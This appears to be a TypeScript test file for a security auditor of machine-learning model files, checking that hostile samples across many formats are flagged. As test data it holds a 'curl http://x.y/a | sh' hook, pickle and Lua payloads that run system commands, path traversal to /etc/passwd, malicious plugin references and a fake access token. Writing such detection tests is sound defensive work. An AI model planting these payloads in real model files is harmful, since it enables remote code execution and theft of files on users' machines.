import { auditBytes, rulesOf } from '#tests/support/audit_set/audit_bytes'
import { protoBytes, protoNumber } from '#tests/support/audit_set/model_files'
import { pickle } from '#tests/support/audit_set/pickle_assembler'
import {
  catBoostOf,
  coreMlOf,
  executorchOf,
  flatOf,
  mxnetOf,
  paddleOf,
  paddleTensorsOf,
  rknnOf,
  t7,
  tensorRtOf,
  u32,
  ZEROS,
} from '#tests/support/audit_set/runtime_files'
import { test } from '@japa/runner'

const json = (value: unknown) => Buffer.from(JSON.stringify(value))
const system = () => pickle(2).call('os', 'system').stop()
const array = { name: 'arg:fc_weight', sizes: [4, 4], values: ZEROS }
const layer = (kind: number, content: Buffer) =>
  protoBytes(1, Buffer.concat([protoBytes(1, 'layer'), protoBytes(kind, content)]))
const linked = (file: string, folder: string) =>
  protoBytes(
    1,
    Buffer.concat([protoBytes(1, protoBytes(1, file)), protoBytes(2, protoBytes(1, folder))])
  )
/** Builds an ELF header for a machine type. */
const elf = (machine: number) => {
  const bytes = Buffer.alloc(64)
  bytes.write('\x7fELF\x02\x01\x01', 'latin1')
  bytes.writeUInt16LE(machine, 18)
  return bytes
}
const program = (file: string) =>
  protoBytes(2, protoBytes(2, Buffer.concat([protoBytes(1, file), protoNumber(2, 64)])))
const symbol = (...nodes: object[]) =>
  json({ nodes, arg_nodes: [0], heads: [[nodes.length - 1, 0, 0]] })
const variable = { op: 'null', name: 'data', inputs: [] }
const model = { nodes: [{ op: 'VSI_NN_OP_CONV2D' }], network_platform: 'onnx', version: '1.7' }
const rknnGraph = (compiler: string) => flatOf({ 7: { text: compiler } }, 'RKNN')

const CLEAN: { file: string; format: string; bytes: () => Buffer }[] = [
  { file: 'm.engine', format: 'tensorrt', bytes: () => tensorRtOf(Buffer.alloc(64)) },
  {
    file: 'yolo.engine',
    format: 'tensorrt',
    bytes: () => tensorRtOf(elf(190), { author: 'Ultralytics', task: 'detect' }),
  },
  {
    file: 'm.rknn',
    format: 'rknn',
    bytes: () => rknnOf({ ...model, ori_path: '/root/work/m.onnx' }, rknnGraph('1.7.1')),
  },
  {
    file: 'm.cbm',
    format: 'catboost',
    bytes: () =>
      catBoostOf({ info: { params: '{"train_dir":"/root/catboost_info","iterations":10}' } }),
  },
  {
    file: 'm.pte',
    format: 'executorch',
    bytes: () => executorchOf({ operators: ['aten::add', 'quantized_decomposed::dequantize'] }),
  },
  { file: 'm.params', format: 'mxnet', bytes: () => mxnetOf([array, array]) },
  { file: 'm-symbol.json', format: 'json', bytes: () => symbol(variable) },
  {
    file: 'm.pdmodel',
    format: 'paddle',
    bytes: () =>
      paddleOf([
        { type: 'feed' },
        { type: 'conv2d', texts: { op_callstack: 'File "/etc/app.py", in os.system("x")' } },
      ]),
  },
  {
    file: 'm.pdiparams',
    format: 'paddle',
    bytes: () => paddleTensorsOf([{ sizes: [16], values: ZEROS }]),
  },
  {
    file: 'm.mlmodel',
    format: 'coreml',
    bytes: () => coreMlOf(500, layer(100, protoNumber(1, 3)), { creator: 'coremltools 8.1' }),
  },
  {
    file: 'program.mlmodel',
    format: 'coreml',
    bytes: () => coreMlOf(502, program('@model_path/weights/weight.bin')),
  },
  { file: 'm.ubj', format: 'ubjson', bytes: () => ubjson('gbtree') },
  {
    file: 'm.t7',
    format: 'torch7',
    bytes: () => t7.object(1, 'nn.Linear', t7.table(2, [[t7.text('weight'), t7.tensor(3, ZEROS)]])),
  },
]

/** Builds an XGBoost tree: texts, numbers of one type, an empty list, and a nested object. */
const ubjson = (name: string) =>
  Buffer.from(
    `{L\0\0\0\0\0\0\0\x04nameSi${String.fromCharCode(name.length)}${name}i\x01w[$d#i\x02${'\0'.repeat(8)}i\x01e[]i\x01t{i\x01aT}i\x01b[#i\x02U\x01Z}`,
    'latin1'
  )

const FINDINGS: { name: string; file: string; rule: string; bytes: () => Buffer }[] = [
  {
    name: 'a truncated TensorRT engine',
    file: 'm.engine',
    rule: 'model-structure',
    bytes: () => tensorRtOf(Buffer.alloc(64)).subarray(0, -8),
  },
  {
    name: 'data after the end of a TensorRT engine',
    file: 'm.engine',
    rule: 'model-structure',
    bytes: () => Buffer.concat([tensorRtOf(Buffer.alloc(64)), ZEROS]),
  },
  {
    name: 'a program for the host in a TensorRT engine',
    file: 'm.engine',
    rule: 'executable-content',
    bytes: () => tensorRtOf(elf(62)),
  },
  {
    name: 'a plugin in a TensorRT engine',
    file: 'm.engine',
    rule: 'model-plugin-reference',
    bytes: () => tensorRtOf(Buffer.from('\0\0plugins/libevil.so\0\0')),
  },
  {
    name: 'a key in the settings of a TensorRT engine',
    file: 'm.engine',
    rule: 'config-secret',
    bytes: () => tensorRtOf(Buffer.alloc(8), { token: `ghp_${'a1B2'.repeat(9)}` }),
  },
  {
    name: 'a truncated RKNN description',
    file: 'm.rknn',
    rule: 'model-structure',
    bytes: () => rknnOf(model).subarray(0, -4),
  },
  {
    name: 'a library in an RKNN description',
    file: 'm.rknn',
    rule: 'model-plugin-reference',
    bytes: () => rknnOf({ ...model, plugin: '/tmp/libevil.so' }),
  },
  {
    name: 'a custom operator of RKNN',
    file: 'm.rknn',
    rule: 'model-custom-operator',
    bytes: () => rknnOf({ nodes: [{ op: 'cstEvil' }] }),
  },
  {
    name: 'code in the compiled graph of RKNN',
    file: 'm.rknn',
    rule: 'code-in-text',
    bytes: () => rknnOf(model, rknnGraph("os.system('id')")),
  },
  {
    name: 'a CatBoost core larger than the file',
    file: 'm.cbm',
    rule: 'model-structure',
    bytes: () => catBoostOf().subarray(0, -40),
  },
  {
    name: 'data after the end of a CatBoost model',
    file: 'm.cbm',
    rule: 'model-structure',
    bytes: () => Buffer.concat([catBoostOf(), ZEROS]),
  },
  {
    name: 'a command in the description of a CatBoost model',
    file: 'm.cbm',
    rule: 'config-command',
    bytes: () => catBoostOf({ info: { params: '{"hook":"curl http://x.y/a | sh"}' } }),
  },
  {
    name: 'a pickle after the end of a CatBoost model',
    file: 'm.cbm',
    rule: 'pickle-dangerous-call',
    bytes: () => Buffer.concat([catBoostOf(), system()]),
  },
  {
    name: 'a custom kernel of ExecuTorch',
    file: 'm.pte',
    rule: 'model-custom-operator',
    bytes: () => executorchOf({ operators: ['evil::run'] }),
  },
  {
    name: 'a segment beyond an ExecuTorch program',
    file: 'm.pte',
    rule: 'model-structure',
    bytes: () => executorchOf({ segmentBytes: 2 ** 40 }),
  },
  {
    name: 'a library in a setting of an ExecuTorch backend',
    file: 'm.pte',
    rule: 'model-plugin-reference',
    bytes: () => executorchOf({ setting: '/data/libevil.so' }),
  },
  {
    name: 'truncated MXNet parameters',
    file: 'm.params',
    rule: 'model-structure',
    bytes: () => mxnetOf([array]).subarray(0, 80),
  },
  {
    name: 'an MXNet array larger than the file',
    file: 'm.params',
    rule: 'model-structure',
    bytes: () => mxnetOf([{ ...array, sizes: [2 ** 20, 2 ** 20] }]),
  },
  {
    name: 'MXNet parameters with more or fewer names than arrays',
    file: 'm.params',
    rule: 'model-structure',
    bytes: () => mxnetOf([array], { names: 0x7fff }),
  },
  {
    name: 'a custom operator of MXNet',
    file: 'm-symbol.json',
    rule: 'model-custom-operator',
    bytes: () => symbol(variable, { op: 'Custom', name: 'c', attrs: { op_type: 'evil' } }),
  },
  {
    name: 'an address in memory in an MXNet graph',
    file: 'm-symbol.json',
    rule: 'mxnet-pointer-operator',
    bytes: () => symbol(variable, { op: '_Native', name: 'n', param: { info: '0x7f00' } }),
  },
  {
    name: 'a custom operator in a nested graph of MXNet',
    file: 'm-symbol.json',
    rule: 'model-custom-operator',
    bytes: () => symbol({ ...variable, subgraphs: [{ nodes: [{ op: 'Custom', name: 'c' }] }] }),
  },
  {
    name: 'an input of an MXNet graph that does not exist',
    file: 'm-symbol.json',
    rule: 'model-structure',
    bytes: () => symbol(variable, { op: 'relu', name: 'r', inputs: [[99, 0, 0]] }),
  },
  {
    name: 'py_func in a Paddle program',
    file: 'm.pdmodel',
    rule: 'paddle-dangerous-operator',
    bytes: () => paddleOf([{ type: 'feed' }, { type: 'py_func' }]),
  },
  {
    name: 'a path outside the model in a Paddle program',
    file: '__model__',
    rule: 'model-path-reference',
    bytes: () => paddleOf([{ type: 'feed', texts: { file_path: '../../secret' } }]),
  },
  {
    name: 'truncated Paddle parameters',
    file: 'm.pdiparams',
    rule: 'model-structure',
    bytes: () => paddleTensorsOf([{ sizes: [16], values: ZEROS }]).subarray(0, -3),
  },
  {
    name: 'a custom layer of Core ML',
    file: 'm.mlmodel',
    rule: 'coreml-custom-code',
    bytes: () => coreMlOf(500, layer(500, protoBytes(10, 'Evil'))),
  },
  {
    name: 'a custom layer in a branch of Core ML',
    file: 'm.mlmodel',
    rule: 'coreml-custom-code',
    bytes: () => coreMlOf(403, layer(605, protoBytes(2, layer(500, protoBytes(10, 'Evil'))))),
  },
  {
    name: 'a custom model in a pipeline of Core ML',
    file: 'm.mlmodel',
    rule: 'coreml-custom-code',
    bytes: () => coreMlOf(200, protoBytes(1, protoBytes(1, coreMlOf(555, protoBytes(10, 'Evil'))))),
  },
  {
    name: 'a linked model of Core ML',
    file: 'm.mlmodel',
    rule: 'coreml-linked-model',
    bytes: () => coreMlOf(556, linked('other.mlmodelc', '')),
  },
  {
    name: 'Core ML weights outside the model',
    file: 'm.mlmodel',
    rule: 'model-path-reference',
    bytes: () => coreMlOf(502, program('@model_path/../../../secret.bin')),
  },
  {
    name: 'a path outside a Core ML package',
    file: 'Manifest.json',
    rule: 'model-path-reference',
    bytes: () =>
      json({ rootModelIdentifier: 'a', itemInfoEntries: { a: { path: '../../../etc/passwd' } } }),
  },
  {
    name: 'a truncated Core ML model',
    file: 'm.mlmodel',
    rule: 'model-structure',
    bytes: () => coreMlOf(500, layer(100, ZEROS)).subarray(0, -9),
  },
  {
    name: 'code in an XGBoost model',
    file: 'm.ubj',
    rule: 'code-in-text',
    bytes: () => ubjson("os.system('id')"),
  },
  {
    name: 'a truncated XGBoost model',
    file: 'm.ubj',
    rule: 'model-structure',
    bytes: () => ubjson('gbtree').subarray(0, -9),
  },
  {
    name: 'data after the end of an XGBoost model',
    file: 'm.ubj',
    rule: 'model-structure',
    bytes: () => Buffer.concat([ubjson('gbtree'), ZEROS]),
  },
  {
    name: 'a function in a Torch7 file',
    file: 'm.t7',
    rule: 'torch7-function',
    bytes: () => t7.table(1, [[t7.text('forward'), t7.function(2, Buffer.from('\x1bLua'))]]),
  },
  {
    name: 'a Torch7 table larger than the file',
    file: 'm.t7',
    rule: 'model-structure',
    bytes: () => Buffer.concat([u32(3), u32(1), u32(2 ** 30), t7.text('a')]),
  },
  {
    name: 'data after the end of a Torch7 value',
    file: 'm.t7',
    rule: 'model-structure',
    bytes: () => Buffer.concat([t7.tensor(1, ZEROS), ZEROS]),
  },
]

test.group('Model audit: models for inference runtimes', () => {
  for (const { file, format, bytes } of CLEAN) {
    test(`${file} is recognized as ${format} and has no finding`, async ({ assert }) => {
      const result = await auditBytes(bytes(), file)
      const assets = result.events.flatMap((event) => (event.type === 'asset' ? event.asset : []))
      assert.equal(assets[0]?.format, format)
      const messages = result.findings.map(({ message }) => message)
      assert.deepEqual(rulesOf(result), [], JSON.stringify(messages))
      assert.equal(result.summary.verdict, 'clean')
      assert.isAbove(result.summary.checks.passed, 0)
    })
  }

  test('the format is recognized without the file name', async ({ assert }) => {
    for (const { format, bytes } of CLEAN.filter((each) => each.format !== 'json')) {
      const { events } = await auditBytes(bytes(), 'model.dat')
      const assets = events.flatMap((event) => (event.type === 'asset' ? event.asset : []))
      assert.equal(assets[0]?.format, format)
    }
  })

  test('content that does not match the file extension is reported', async ({ assert }) => {
    for (const { file } of CLEAN.filter(({ format }) => !['json', 'mxnet'].includes(format))) {
      const result = await auditBytes(Buffer.alloc(64, 7), file)
      const rules = rulesOf(result)
      assert.isTrue(rules.includes('format-mismatch') || rules.includes('model-structure'), file)
    }
  })

  for (const { name, file, bytes, rule } of FINDINGS) {
    test(`the finding ${rule} is reported for ${name}`, async ({ assert }) => {
      assert.include(rulesOf(await auditBytes(bytes(), file)), rule)
    })
  }

  test('a Lua function that runs programs and a link that leaves the model are reported as malicious', async ({
    assert,
  }) => {
    const code = Buffer.from('\x1bLua\x03os\0\x08execute\0\x03id\0', 'latin1')
    const lua = await auditBytes(t7.table(1, [[t7.text('f'), t7.function(2, code)]]), 'm.t7')
    assert.equal(lua.summary.verdict, 'malicious')
    const link = await auditBytes(coreMlOf(556, linked('x.mlmodelc', '/tmp')), 'm.mlmodel')
    assert.equal(link.summary.verdict, 'malicious')
  })

  test('the verdict on an encrypted RKNN model is undecided', async ({ assert }) => {
    const { summary, findings } = await auditBytes(Buffer.from('CYPTRKNN'.padEnd(64)), 'm.rknn')
    assert.equal(summary.verdict, 'undecided')
    assert.deepEqual(
      findings.map(({ rule }) => rule),
      ['model-encrypted']
    )
  })
})
